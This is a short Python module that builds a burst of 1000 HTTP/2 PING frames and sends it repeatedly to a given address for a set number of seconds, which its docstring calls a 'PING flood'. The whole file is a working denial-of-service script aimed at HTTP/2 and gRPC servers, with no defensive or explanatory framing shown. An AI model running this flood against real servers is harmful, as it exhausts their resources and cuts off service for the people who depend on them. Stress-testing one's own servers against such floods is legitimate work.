"""PING flood: each one asks for an answer."""

from . import grpc_wire, http2

FLOOD = http2.frame(http2.PING, 0, 0, b"8 bytes.") * 1000


def turn(client, until):
    client.send(FLOOD, until)


def run(address, seconds):
    return grpc_wire.repeat(address, seconds, turn)
